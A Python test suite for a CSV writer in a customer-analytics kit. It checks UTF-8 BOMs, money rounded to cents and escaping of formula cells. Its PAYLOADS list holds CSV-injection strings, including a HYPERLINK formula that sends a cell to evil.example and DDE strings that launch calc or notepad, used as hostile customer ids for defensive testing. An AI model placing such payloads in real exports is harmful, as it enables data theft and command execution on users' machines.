"""The one CSV writer (analysis.data.spreadsheet): every CSV a person opens, from the batch or the command line, is
formula-safe, UTF-8 with a BOM, with money in cents (issues 17, 19, 22)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from analysis.cli import main
from analysis.data.sample import generate_transactions
from analysis.data.spreadsheet import money_columns, neutralise_formulas, write_spreadsheet_csv
from tests.conftest import examples

#: Customer ids a spreadsheet would run as formulas (CSV injection, OWASP), and one it would not.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C notepad'!A1",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
)
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def cells(path: Path) -> list[list[str]]:
    """Every cell of a CSV as a spreadsheet reads it (UTF-8 with its BOM removed)."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_spreadsheet_safe(path: Path) -> None:
    """A BOM, and no cell a spreadsheet would run as a formula (plain numbers such as -3.5 are numbers)."""
    assert path.read_bytes().startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM"
    for row in cells(path):
        for cell in row:
            risky = cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not PLAIN_NUMBER.fullmatch(cell)
            assert not risky, f"{path.name}: formula cell {cell!r}"


def hostile_log(path: Path) -> Path:
    """A small raw log whose first customers carry formula ids (each with enough purchases to be fitted)."""
    log = generate_transactions(customers=150, seed=5, dirty=False)
    ids = sorted(log["customer_id"].unique())[: len(PAYLOADS)]
    log["customer_id"] = log["customer_id"].replace(dict(zip(ids, PAYLOADS, strict=True)))
    log.to_csv(path, index=False)
    return path


def run(*args: str) -> str:
    res = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert res.exit_code == 0, res.output
    return res.output


def test_money_cents_bom_and_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "monetary": [2468.6200000000003, np.nan],
            "clv_pnbd": [1 / 3, 2.0],
            "treated_revenue_per_customer": [10.125001, 0.0],
            "revenue_share": [0.123456, 0.5],
            "p_alive": [0.93944234318, 1.0],
            "recency_days": [27.5, 3.0],
            "segment": ["Champions", "=1+1"],
        },
        index=pd.Index(["@x", "C2"], name="customer_id"),
    )
    assert money_columns(frame) == ["monetary", "clv_pnbd", "treated_revenue_per_customer"]
    path = write_spreadsheet_csv(frame, tmp_path / "x.csv")
    assert_spreadsheet_safe(path)
    back = pd.read_csv(path, keep_default_na=False)  # pandas drops the BOM
    assert list(back.columns) == ["customer_id", *frame.columns]
    assert back["monetary"].tolist() == ["2468.62", ""] and back["clv_pnbd"].tolist() == [0.33, 2.0]
    assert back["treated_revenue_per_customer"].tolist() == [10.13, 0.0]
    assert back["revenue_share"].tolist() == [0.123456, 0.5] and back["p_alive"].tolist() == [0.93944234318, 1.0]
    assert back["customer_id"].tolist() == ["'@x", "C2"] and back["segment"].tolist() == ["Champions", "'=1+1"]
    assert b"\r\n" in path.read_bytes()  # RFC 4180 line ends
    # explicit money columns, and none
    write_spreadsheet_csv(frame, tmp_path / "y.csv", money=["revenue_share"])
    assert pd.read_csv(tmp_path / "y.csv")["revenue_share"].tolist() == [0.12, 0.5]
    write_spreadsheet_csv(frame, tmp_path / "z.csv", money=())
    assert pd.read_csv(tmp_path / "z.csv")["monetary"].iloc[0] == pytest.approx(2468.6200000000003, abs=0)
    assert frame.loc["@x", "monetary"] == 2468.6200000000003  # the caller's frame is untouched


def test_every_cli_csv_is_spreadsheet_safe(tmp_path: Path) -> None:
    """rfmkit clean, score, summary and clv on a log whose ids are formulas write no cell a spreadsheet would run."""
    log = hostile_log(tmp_path / "log.csv")
    run("clean", str(log), "--out", str(tmp_path / "clean"))
    clean = tmp_path / "clean" / "clean.parquet"
    assert set(PAYLOADS) - {"\t=1+1"} <= set(pd.read_parquet(clean)["customer_id"])  # the ids are kept, as text
    run("score", str(log), "--as-of", "2024-12-31", "--out", str(tmp_path / "score.csv"))
    run("score", str(clean), "--as-of", "2024-12-31", "--out", str(tmp_path / "score_clean.csv"), "--no-clv")
    run("summary", str(clean), "--as-of", "2024-06-30", "--holdout-end", "2024-12-31", "--out", str(tmp_path / "s.csv"))
    run(
        "clv",
        str(clean),
        "--calibration-end",
        "2024-06-30",
        "--holdout-end",
        "2024-12-31",
        "--out",
        str(tmp_path / "v"),
    )
    written = (
        sorted(tmp_path.glob("*.csv"))
        + sorted((tmp_path / "clean").glob("*.csv"))
        + sorted((tmp_path / "v").glob("*.csv"))
    )
    names = {p.name for p in written}
    assert {"score.csv", "score_clean.csv", "s.csv", "quarantine.csv", "customers.csv", "tracking.csv"} <= names
    for path in written:
        if path != log:
            assert_spreadsheet_safe(path)
    scored = pd.read_csv(tmp_path / "score.csv", dtype={"customer_id": str})
    # shown as text: the id with an apostrophe in front, the customer still there
    assert "'" + PAYLOADS[0] in set(scored["customer_id"]) and scored["customer_id"].is_unique
    for col in ("monetary", "clv", "spend_per_purchase"):
        assert (scored[col].dropna().round(2) == scored[col].dropna()).all(), col
    clv = pd.read_csv(tmp_path / "v" / "customers.csv")
    assert (clv["clv"].dropna().round(2) == clv["clv"].dropna()).all()


def test_the_sample_log_reads_back_as_written(tmp_path: Path) -> None:
    """rfmkit sample writes through the same writer: pandas reads it back unchanged (BOM dropped, plain numbers)."""
    run("sample", "--out", str(tmp_path / "s.csv"), "--customers", "50", "--seed", "2")
    back = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
    raw = generate_transactions(customers=50, seed=2)
    pd.testing.assert_frame_equal(back, raw.astype(str).where(raw.notna(), ""), check_dtype=False)


def test_neutralise_leaves_numbers_alone() -> None:
    frame = pd.DataFrame({"amount": [-5.0, 2.5], "note": ["-5", "-x"]})
    out = neutralise_formulas(frame)
    assert out["amount"].tolist() == [-5.0, 2.5] and out["note"].tolist() == ["-5", "'-x"]


def test_names_in_the_csvs_are_the_reports_names() -> None:
    """customers.csv and the CRM lists carry canonical values; the English report shows the same words (the zh report
    translates them, and customers.csv carries value_class_en beside the Chinese value class)."""
    from analysis import text
    from analysis.customers.segments import SEGMENT_ORDER, VALUE_CLASSES

    for segment in SEGMENT_ORDER:
        assert text.name(segment, "en") == segment, segment  # e.g. 'Potential Loyalist' in both
    for zh, en in VALUE_CLASSES.values():
        assert text.name(zh, "en") == en and text.name(zh, "zh") == zh


@settings(max_examples=examples(200))
@given(
    st.lists(
        st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=12),
        min_size=1,
        max_size=6,
    ),
    st.lists(st.floats(allow_nan=True, allow_infinity=False, width=64), min_size=1, max_size=6),
)
def test_any_text_is_written_safe_and_reads_back(texts: list[str], amounts: list[float]) -> None:
    """Whatever text people typed: no cell of the file starts a formula, and the kit reads its own file back to the
    same text (restore_formulas), except text that itself began with an apostrophe before a formula character."""
    import tempfile

    from analysis.data.spreadsheet import FORMULA_START, restore_formulas

    assume(not any(t.startswith("'") and t[1:2] in FORMULA_START for t in texts))
    n = min(len(texts), len(amounts))
    frame = pd.DataFrame({"note": texts[:n], "amount": amounts[:n]})
    with tempfile.TemporaryDirectory() as folder:
        path = write_spreadsheet_csv(frame, Path(folder) / "x.csv", index=False)
        assert_spreadsheet_safe(path)
        back = pd.read_csv(path, dtype={"note": str}, keep_default_na=False, na_values={"amount": [""]})
    assert restore_formulas(back)["note"].tolist() == frame["note"].tolist()
    raw = frame["amount"].to_numpy()
    small = np.abs(np.nan_to_num(raw)) < 1e15  # cents; beyond, a float has none (and rounding would overflow)
    expected = np.where(small, np.round(np.where(small, raw, 0.0), 2), raw)
    np.testing.assert_array_equal(back["amount"].astype(float).to_numpy(), expected)
